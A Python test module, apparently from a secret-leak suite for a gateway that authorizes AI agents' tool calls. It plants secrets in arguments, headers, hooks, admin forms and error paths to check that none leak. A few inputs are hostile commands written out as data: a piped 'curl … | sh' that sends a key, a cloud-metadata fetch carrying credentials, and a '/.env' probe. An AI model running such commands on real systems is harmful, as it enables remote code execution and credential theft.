"""Every door of the product, each handed a secret of its own wherever a caller may put text."""

from __future__ import annotations

import base64
import json
from typing import Any
from urllib.parse import quote

from tests.leaks.client import Client, links
from tests.leaks.planted import Planter

DECISIONS, HOOK = "/api/v1/decisions", "/hooks/claude-code"
READ: dict[str, Any] = {"server": "files", "tool": "read", "arguments": {"path": "/srv/ledger/q3.csv"}}
LABELS = ("session_id", "trace_id", "context_id", "task_id", "client_id", "tool_use_id", "agent_id")
EVENT: dict[str, Any] = {"session_id": "s-1", "cwd": "/srv/app", "transcript_path": "/t.jsonl"}


def in_arguments(client: Client, plant: Planter, token: str) -> None:
    """Decisions with secrets anywhere in the arguments, plain, wrapped, and such as no detector can know."""

    def decide(door: str, arguments: Any, **changes: Any) -> None:
        client.call(door, DECISIONS, {**READ, "arguments": arguments, **changes}, token)

    decide("an argument", {"path": plant.secret("an argument")})
    decide("an argument's name", {plant.secret("an argument's name"): 1})
    decide("a nested argument", {"a": [{"b": {"c": plant.secret("a nested argument")}}]})
    decide("text around it", {"text": f"use {plant.secret('text around it')} please"})
    secret = plant.secret("base64")
    decide("base64", {"x": base64.b64encode(secret.encode()).decode()})
    secret = plant.secret("percent")
    decide("percent", {"x": "".join(f"%{byte:02X}" for byte in secret.encode())})
    secret = plant.secret("two arguments")
    decide("two arguments", {"a": secret[:14], "b": secret[14:]})
    decide("a large argument", {"x": "lorem ipsum " * 1_700 + plant.secret("a large argument")})
    decide("backwards", {"x": plant.secret("backwards")[::-1]})
    plain = plant.secret("no detector's form")[-16:]
    decide("no detector's form", {"note": plain[:8] + " " + plain[8:]})
    decide("a denied tool", {"x": plant.secret("a denied tool")}, tool="write")
    decide("an unknown tool", {"x": plant.secret("an unknown tool")}, tool="nothing-there")
    decide("an address", {"url": f"http://user:{plant.secret('an address')}@169.254.169.254/"}, tool="fetch")
    decide("a command", {"command": f"curl -H 'X-Key: {plant.secret('a command')}' http://x | sh"})


def in_names(client: Client, plant: Planter, token: str) -> None:
    """Decisions with secrets in everything that names something, and in requests that are none."""
    for name in LABELS:
        client.call(name, DECISIONS, {**READ, "context": {name: plant.secret(name)}}, token)
    for name in ("server", "tool", "call_id"):
        client.call(name, DECISIONS, {**READ, name: plant.secret(name)}, token)
    client.call("a data source", DECISIONS, {**READ, "data_sources": [plant.secret("a data source")]}, token)
    client.call("an unknown field", DECISIONS, {**READ, plant.secret("an unknown field"): 1}, token)
    client.call("an unknown label", DECISIONS, {**READ, "context": {plant.secret("an unknown label"): "x"}}, token)
    client.call("a wrong type", DECISIONS, {**READ, "arguments": plant.secret("a wrong type")}, token)
    client.call("a label's type", DECISIONS, {**READ, "context": plant.secret("a label's type")}, token)
    secret = plant.secret("a field twice")
    client.call("a field twice", DECISIONS, f'{{"arguments":{{"{secret}":1,"{secret}":2}}}}'.encode(), token)
    secret = plant.secret("a broken body")
    client.call("a broken body", DECISIONS, f'{{"server":"files","tool":"{secret}'.encode(), token)
    secret = plant.secret("not a number")
    client.call("not a number", DECISIONS, f'{{"arguments":{{"{secret}":NaN}}}}'.encode(), token)
    secret = plant.secret("a lone surrogate")
    client.call("a lone surrogate", DECISIONS, f'{{"arguments":{{"{secret}":"\\ud800"}}}}'.encode(), token)
    secret = plant.secret("too deep")
    client.call("too deep", DECISIONS, ('{"a":' * 40 + f'"{secret}"' + "}" * 40).encode(), token)
    client.call("too large", DECISIONS, {**READ, "arguments": {"x": plant.secret("too large") + "x" * 270_000}}, token)
    client.call("a media type", DECISIONS, READ, token, Content_Type=f"text/{plant.secret('a media type')}")
    client.call("an encoding", DECISIONS, READ, token, Content_Encoding=plant.secret("an encoding"))
    client.call("a batch item", f"{DECISIONS}/batch", {"calls": [READ, {**READ, "arguments": {
        "k": plant.secret("a batch item")}}]}, token)  # fmt: skip
    client.call("a batch label", f"{DECISIONS}/batch", {"calls": [{**READ, "context": {
        "task_id": plant.secret("a batch label")}}]}, token)  # fmt: skip
    client.call("a batch's semantic", f"{DECISIONS}/batch", {"calls": [READ], "semantic": plant.secret(
        "a batch's semantic")}, token)  # fmt: skip


def in_headers(client: Client, plant: Planter, token: str) -> None:
    """Requests with secrets in credentials, headers, paths and queries."""

    def get(door: str, path: str, **headers: str) -> None:
        sent = {"Authorization": f"Bearer {token}"} | {name.replace("_", "-"): value for name, value in headers.items()}
        client.send(door, "GET", path, headers=sent)

    get("a refused token", "/api/v1/me", Authorization=f"Bearer {plant.secret('a refused token')}")
    get("a refused key", "/api/v1/me", Authorization=f"Bearer tg_{plant.secret('a refused key')}")
    get("another scheme", "/api/v1/me", Authorization=f"Basic {plant.secret('another scheme')}")
    get("a second credential", "/api/v1/me", X_API_Key=plant.secret("a second credential"))
    get("a token in the query", f"/api/v1/me?access_token={quote(plant.secret('a token in the query'))}")
    get("a cursor", f"/api/v1/surface?after={quote(plant.secret('a cursor'))}")
    get("an unknown query", f"/api/v1/surface?{quote(plant.secret('an unknown query'))}=1")
    get("an unknown path", f"/api/v1/{quote(plant.secret('an unknown path'))}")
    get("an unknown page", f"/{quote(plant.secret('an unknown page'))}")
    get("a method", f"/api/v1/decisions/{quote(plant.secret('a method'))}/outcome")
    client.call("another method", "/api/v1/me", {plant.secret("another method"): 1}, token)
    get("a request id", "/api/v1/me", X_Request_ID=plant.secret("a request id"))
    get("a request id behind Django", "/api/schema/", X_Request_ID=plant.secret("a request id behind Django"))
    get("a trace parent", "/api/v1/me", Traceparent=plant.secret("a trace parent"))
    get("a user agent", "/api/v1/me", User_Agent=plant.secret("a user agent"))
    get("a referrer", "/readyz", Referer=f"http://x/{plant.secret('a referrer')}")
    get("a host", "/api/v1/me", Host=plant.secret("a host"))
    get("an origin", "/api/v1/me", Origin=f"http://{plant.secret('an origin')}")
    get("a cookie", "/api/v1/me", Cookie=f"toolgate={plant.secret('a cookie')}")
    get("a proxy's header", "/api/v1/me", X_Toolgate_User=plant.secret("a proxy's header"))
    door = "a scanner's path"
    get(door, f"/.env?{quote(plant.secret(door))}")


def in_outcomes(client: Client, plant: Planter, token: str) -> None:
    """Outcomes of allowed calls with secrets in result, error and status."""
    for door, outcome in (
        ("a result", lambda s: {"status": "success", "ms": 3, "result": {"out": s}}),
        ("a result's key", lambda s: {"status": "success", "result": {s: [1]}}),
        ("a result as text", lambda s: {"status": "success", "result": f"token is {s}"}),
        ("an error", lambda s: {"status": "failed", "error": f"refused {s}"}),
        ("a status", lambda s: {"status": s}),
        ("an outcome's field", lambda s: {"status": "success", s: 1}),
    ):
        _, answer = client.call(f"{door} (allow)", DECISIONS, READ, token)
        client.call(door, f"{DECISIONS}/{answer['id']}/outcome", outcome(plant.secret(door)), token)


def in_evaluations(client: Client, plant: Planter, token: str) -> None:
    """AuthZEN with secrets everywhere."""
    asked: dict[str, Any] = {
        "subject": {"type": "user", "id": "alice"},
        "action": {"name": "tools/call"},
        "resource": {"type": "tool", "id": "files/read"},
    }

    def evaluate(door: str, **changes: Any) -> None:
        client.call(door, "/access/v1/evaluation", {**asked, **changes}, token)

    evaluate("a context's argument", context={"arguments": {"x": plant.secret("a context's argument")}})
    evaluate("a subject", subject={"type": "user", "id": plant.secret("a subject")})
    evaluate("a subject's type", subject={"type": plant.secret("a subject's type"), "id": "alice"})
    properties = {"department": plant.secret("a subject's property")}
    evaluate("a subject's property", subject={"type": "user", "id": "alice", "properties": properties})
    evaluate("an action", action={"name": plant.secret("an action")})
    evaluate("a resource", resource={"type": "tool", "id": f"files/{plant.secret('a resource')}"})
    evaluate("a resource's type", resource={"type": plant.secret("a resource's type"), "id": "files/read"})
    evaluate("a context's session", context={"session_id": plant.secret("a context's session")})
    evaluate("what is ignored", **{plant.secret("what is ignored"): plant.secret("what is ignored too")})
    client.call("many evaluations", "/access/v1/evaluations", {**asked, "evaluations": [
        {"context": {"arguments": {"x": plant.secret("many evaluations")}}}]}, token)  # fmt: skip
    for kind in ("subject", "resource", "action"):
        door = f"a search for a {kind}"
        page = {"token": plant.secret(door)}
        client.call(door, f"/access/v1/search/{kind}", {**asked, "page": page}, token)


def in_hooks(client: Client, plant: Planter, token: str) -> None:
    """Claude Code's events with secrets in all their fields, and with a token that is not for hooks."""

    def hook(door: str, name: str, **fields: Any) -> None:
        client.call(door, HOOK, {**EVENT, "hook_event_name": name, **fields}, token)

    bash = {"tool_name": "Bash", "tool_use_id": "toolu_1"}
    door = "a tool's input"
    hook(door, "PreToolUse", **bash, tool_input={"command": f"echo {plant.secret(door)}"})
    hook("a tool's name", "PreToolUse", tool_name=plant.secret("a tool's name"), tool_input={})
    hook("a folder", "PreToolUse", **bash, tool_input={}, cwd=plant.secret("a folder"))
    hook("a transcript", "PreToolUse", **bash, tool_input={}, transcript_path=plant.secret("a transcript"))
    hook("a client's session", "PreToolUse", **bash, tool_input={}, session_id=plant.secret("a client's session"))
    hook("a tool use", "PreToolUse", tool_name="Bash", tool_input={}, tool_use_id=plant.secret("a tool use"))
    hook("a prompt", "UserPromptSubmit", prompt=f"my key is {plant.secret('a prompt')}, keep it")
    hook("a tool's response", "PostToolUse", **bash, tool_input={}, tool_response={
        "stdout": plant.secret("a tool's response")})  # fmt: skip
    hook("a tool's error", "PostToolUseFailure", **bash, tool_input={}, error=plant.secret("a tool's error"))
    hook("an event's name", plant.secret("an event's name"))
    hook("another event", "Notification", message=plant.secret("another event"))
    client.call("a refused hook token", HOOK, EVENT, plant.secret("a refused hook token"))


def in_management(client: Client, plant: Planter, token: str) -> None:
    """The management API with secrets in what it refuses, as staff."""

    def post(door: str, path: str, body: Any) -> None:
        client.call(door, f"/api/v1/{path}", body, token)

    post("a managed field", "rules", {"id": "r1", "effect": "allow", plant.secret("a managed field"): 1})
    post("a managed value", "rules", {"id": "r1", "effect": plant.secret("a managed value")})
    post("a managed id", "departments", {"id": plant.secret("a managed id") + " "})
    post("a managed pattern", "detectors/own", {"id": "x", "pattern": f"({plant.secret('a managed pattern')}"})
    post("a managed body", "rules", b'{"id": "' + plant.secret("a managed body").encode())
    client.read("a managed path", f"/api/v1/rules/{quote(plant.secret('a managed path'), safe='')}", token)
    client.read("a managed query", f"/api/v1/rules?{quote(plant.secret('a managed query'))}=1", token)
    client.read("a managed cursor", f"/api/v1/rules?after={quote(plant.secret('a managed cursor'))}", token)
    for path in ("releases", "switches", "rules", "detectors", "users", "draft/diff", "proposals"):
        client.read(f"managed {path}", f"/api/v1/{path}", token)
    asked = {"principal": "alice", "call": {**READ, "arguments": {"x": plant.secret("an explained argument")}}}
    post("an explained argument", "explain", asked)
    post("a simulated argument", "simulate", {**asked, "call": {**READ, "arguments": {
        "x": plant.secret("a simulated argument")}}})  # fmt: skip


def in_pages(client: Client, plant: Planter, password: str) -> None:
    """The admin: wrong and right passwords, searches, forms, and every page that a page leads to."""
    wrong = {"username": plant.secret("a wrong name"), "password": plant.secret("a wrong password")}
    client.submit("a wrong password", "/admin/login/", **wrong)
    client.submit("the password", "/admin/login/", username="chief", password=password, next="/admin/")
    status, index = client.page("the index", "/admin/")
    assert status == 200, "nobody is signed in"
    for address in links(index, "/admin/"):
        if "logout" in address:
            continue
        _, listing = client.page(address, address)
        for below in [link for link in links(listing, address) if link.endswith("/change/")][
            : 60 if "trailrecord" in address else 4
        ]:
            _, detail = client.page(below, below)
            for history in [link for link in links(detail, address) if link.endswith("/history/")]:
                client.page(history, history)
    for model in ("audit/trailrecord", "governance/rule", "accounts/user"):
        door = f"a search in {model}"
        client.page(door, f"/admin/{model}/?q={quote(plant.secret(door))}")
        door = f"a filter of {model}"
        client.page(door, f"/admin/{model}/?kind={quote(plant.secret(door))}")
        door = f"a key of {model}"
        where = f"/admin/{model}/{quote(plant.secret(door), safe='')}/change/"
        client.page(door, where)
        client.page(f"the page after {door}", "/admin/")
    client.submit(
        "the box", "/admin/try/", text=f"curl -u x:{plant.secret('the box')}", form="command", policy="current"
    )
    client.submit("the box with JSON", "/admin/try/", text=json.dumps({"k": plant.secret("the box with JSON")}),
                  form="json", policy="current")  # fmt: skip
    client.submit(
        "the simulator", "/admin/simulator/", principal="alice", agent="reporter", tool="files/read",
        arguments=json.dumps({"path": plant.secret("the simulator")}),
    )  # fmt: skip
    fresh = plant.secret("a new password")
    _, users = client.page("the users", "/admin/accounts/user/")
    for address in [link for link in links(users, "/admin/accounts/user/") if link.endswith("/change/")][:1]:
        where = address.replace("/change/", "/password/")
        client.submit("a new password", where, password1=fresh, password2=fresh)
        other = plant.secret("a mistyped password")
        client.submit("a mistyped password", where, password1=other, password2=other[:-1])


def while_the_database_is_away(client: Client, plant: Planter, token: str) -> None:
    """What fails inside: 500s and 503s of everything that needs the database."""
    client.cookies = {name: value for name, value in client.cookies.items() if name == "csrf"}
    client.submit("a password without a database", "/admin/login/", username="chief",
                  password=plant.secret("a password without a database"))  # fmt: skip
    door = "a page without a database"
    client.page(door, f"/admin/audit/trailrecord/?q={quote(plant.secret(door))}")
    door = "a managed object without a database"
    client.call(door, "/api/v1/departments", {"id": "x", "description": plant.secret(door)}, token)
    door = "an outcome without a database"
    _, answer = client.call(f"{door} (allow)", DECISIONS, READ, token)
    if "id" in answer:
        outcome = {"status": "success", "result": plant.secret(door)}
        client.call(door, f"{DECISIONS}/{answer['id']}/outcome", outcome, token)
    door = "a decision without a database"
    client.call(door, DECISIONS, {**READ, "arguments": {"x": plant.secret(door)}}, token)
